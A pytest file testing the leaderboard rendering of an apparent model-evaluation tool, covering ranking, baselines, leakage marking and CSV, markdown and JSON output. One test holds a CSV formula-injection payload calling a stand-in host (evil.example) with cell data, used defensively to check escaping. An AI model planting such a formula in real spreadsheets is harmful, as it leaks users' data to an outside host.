from __future__ import annotations

import csv
import io
import json
import os
import shutil
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from opswright.core.artifact_refs import CheckpointRef, ClassifierRef, DatasetRef, EvalReportRef
from opswright.core.artifacts import ArtifactStore
from opswright.core.errors import AskError
from opswright.core.workspace import Workspace
from opswright.evals.leaderboard import FORMATS, leaderboard_rows, render
from opswright.evals.lineage import ReportLineage
from opswright.evals.ranks import with_ranks
from opswright.evals.report import facts_of
from opswright.evals.runner import to_lines
from opswright.ui.reports.leaderboard import page

A, B = (str(CheckpointRef.of(letter * 64)) for letter in "ab")
DATA = str(DatasetRef.of("d" * 64))


@pytest.fixture
def save(workspace: Workspace, measured: Any) -> Any:
    def one(model: str, right: int, baseline: int | None = None, **more: Any) -> EvalReportRef:
        found = measured(model=model, old_domains=(right, 100), home=(right, 100))
        others = {} if baseline is None else {"tfidf_svc": measured(old_domains=(baseline, 100))}
        facts = {**facts_of(found, 200, others), "size_bytes": 4_600_000, "train_dataset": DATA, **more}
        with workspace.artifacts.staging() as folder:
            (folder / "items.jsonl").write_bytes(to_lines(found.items))
            return workspace.artifacts.save(EvalReportRef, folder, facts)

    return one


def test_models_and_baselines_stand_best_first(workspace: Workspace, save: Any) -> None:
    save(A, 80, baseline=90)
    save(B, 95, baseline=90)
    lines = leaderboard_rows(workspace.artifacts)
    assert [line.model for line in lines] == [B, "tfidf_svc", A]  # the same baseline once
    assert [line.kind for line in lines] == ["checkpoint", "baseline", "checkpoint"]
    assert lines[0].slices == {"old_domains": 0.95, "home": 0.95} and lines[0].low < 0.95 < lines[0].high


def test_what_learned_from_the_items_it_is_measured_on_is_marked_baselines_too(
    workspace: Workspace, save: Any
) -> None:
    save(A, 80, baseline=99, leaked=101)
    save(B, 70, leaked=0)
    lines = leaderboard_rows(workspace.artifacts)
    assert [line.leaked for line in lines] == [101, 101, 0]
    for form in ("table", "md"):
        assert render(lines, form).count("200 (101 learned from)") == 2
    assert page(lines).count("101 learned from") == 2


def test_a_classifier_is_shown_as_a_baseline(workspace: Workspace, save: Any) -> None:
    save(str(ClassifierRef.of("c" * 64)), 90, baseline=80)
    lines = leaderboard_rows(workspace.artifacts)
    assert [line.kind for line in lines] == ["classifier", "baseline"] and all(o.is_baseline for o in lines)
    assert "classifier:cccccccccccc (baseline)" in render(lines) and lines[0].id == lines[0].report


def test_the_newest_report_of_a_model_counts_with_the_verdict_on_it(workspace: Workspace, save: Any) -> None:
    old = save(A, 70)
    os.utime(workspace.artifacts.folder(old) / "artifact.json", (1, 1))
    new = save(A, 80)
    made = {str(old): ReportLineage(verdict="NO_GO"), str(new): ReportLineage(verdict="GO")}
    (line,) = leaderboard_rows(workspace.artifacts, made=made)
    assert (line.value, line.verdict, line.report) == (0.8, "GO", new)


def test_the_ledger_says_when_a_report_was_made_not_its_file(workspace: Workspace, save: Any) -> None:
    first, second = save(A, 70), save(A, 80)
    made = {
        str(first): ReportLineage("run-2", "Again", 9, "2026-01-02T10:00:00.5+01:00"),
        str(second): ReportLineage("run-1", "Once", 4, "2026-01-01T10:00:00+00:00"),
    }
    (line,) = leaderboard_rows(workspace.artifacts, made=made)
    assert (line.value, line.run, line.record, line.goal) == (0.7, "run-2", 9, "Again")
    assert line.date == "2026-01-02T09:00:00+00:00"


def test_the_same_reports_give_the_same_bytes_in_a_copy_of_the_workspace(
    workspace: Workspace, save: Any, tmp_path: Path
) -> None:
    made = {}
    for number, right in enumerate((70, 90, 80)):
        time = f"2026-01-0{number + 1}T00:00:00+00:00"
        made[str(save(A, right, baseline=75))] = ReportLineage("run", "", number, time)
    shutil.copytree(workspace.artifacts.root, tmp_path / "copy", copy_function=shutil.copyfile)
    copy = ArtifactStore(tmp_path / "copy")
    for ref, manifest in copy.list():
        os.utime(copy.folder(ref) / "artifact.json", (len(manifest), len(manifest)))
    for form in FORMATS:
        ours, theirs = (
            render(leaderboard_rows(store, made=made), form) for store in (workspace.artifacts, copy)
        )
        assert ours == theirs


def test_another_version_of_a_suite_has_lines_of_its_own(workspace: Workspace, save: Any) -> None:
    save(A, 70)
    save(A, 80, suite_digest="f" * 64)
    assert len(leaderboard_rows(workspace.artifacts)) == 2
    assert leaderboard_rows(workspace.artifacts, suite="banking77") == []


def test_an_endpoint_is_named_by_its_address(workspace: Workspace, save: Any) -> None:
    save("http://127.0.0.1:8700", 80)
    (line,) = leaderboard_rows(workspace.artifacts)
    assert line.kind == "endpoint" and "http://127.0.0.1:8700" in render([line])


def test_a_name_that_a_spreadsheet_would_run_is_text_in_csv(workspace: Workspace, save: Any) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    save(A, 80)
    (line,) = leaderboard_rows(workspace.artifacts)
    (row,) = csv.DictReader(io.StringIO(render([replace(line, metric=hostile, low=-0.5)], "csv")))
    assert (row["metric"], row["low"]) == (f"'{hostile}", "-0.5")


def test_every_format_holds_every_line(workspace: Workspace, save: Any) -> None:
    save(A, 80, baseline=90)
    lines = leaderboard_rows(workspace.artifacts)
    assert [row["value"] for row in json.loads(render(lines, "json"))] == [0.9, 0.8]
    assert [row["model"] for row in csv.DictReader(io.StringIO(render(lines, "csv")))] == ["tfidf_svc", A]
    table = render(lines, "md").splitlines()
    assert len(table) == 4 and {line.count("|") for line in table} == {16}
    assert "90.0%" in table[2] and "checkpoint:aaaaaaaaaaaa" in table[3]
    assert len(render(lines).splitlines()) == 3
    with pytest.raises(AskError, match="unknown format 'xml'"):
        render(lines, "xml")


def test_a_name_with_markup_is_shown_as_it_is(workspace: Workspace, save: Any) -> None:
    save("bot <b>|[x](http://a)\n\x1b[31m", 80)
    lines = leaderboard_rows(workspace.artifacts)
    row = render(lines, "md").splitlines()[2]
    assert row.startswith("| bot \\<b\\>\\|\\[x\\](http://a) ?\\[31m |")
    assert "\x1b" not in render(lines) and len(render(lines).splitlines()) == 2


def test_the_slices_that_a_suite_names_are_shown_whatever_they_are_called(
    workspace: Workspace, measured: Any
) -> None:
    found = measured(**{name: (9, 10) for name in ("en", "de", "fr", "es", "vip")})
    facts = facts_of(found, 50, {}, ("vip",))
    with workspace.artifacts.staging() as folder:
        (folder / "items.jsonl").write_bytes(b"")
        workspace.artifacts.save(EvalReportRef, folder, facts)
    line = leaderboard_rows(workspace.artifacts)[0]
    assert line.groups == {"vip": 0.9} and "vip 90.0%" in render([line]) and " fr " not in render([line])
    assert leaderboard_rows(workspace.artifacts)[0].named_slices == ("vip",)
    few = replace(line, named_slices=(), slices={"en": 0.5, "de": 0.6})
    assert few.groups == {"en": 0.5, "de": 0.6}


def test_lines_of_one_suite_are_ranked_by_what_their_items_show(workspace: Workspace, save: Any) -> None:
    save(A, 95)
    save(B, 93)
    save(str(CheckpointRef.of("c" * 64)), 20)
    lines = with_ranks(workspace.artifacts, leaderboard_rows(workspace.artifacts))
    assert [(line.tier, line.ranks) for line in lines] == [("1", "1-2"), ("1", "1-2"), ("2", "3")]
    assert " tier " in render(lines) and " 1-2 " in render(lines)


def test_a_line_whose_items_cannot_be_read_has_no_rank(workspace: Workspace, save: Any) -> None:
    save(A, 95, baseline=40)  # the baseline's answers were not kept
    damaged = save(B, 20)
    (workspace.artifacts.folder(damaged) / "files" / "items.jsonl").write_text("{}\n")
    lines = with_ranks(workspace.artifacts, leaderboard_rows(workspace.artifacts))
    assert [(line.model, line.ranks) for line in lines] == [(A, "1"), ("tfidf_svc", None), (B, None)]
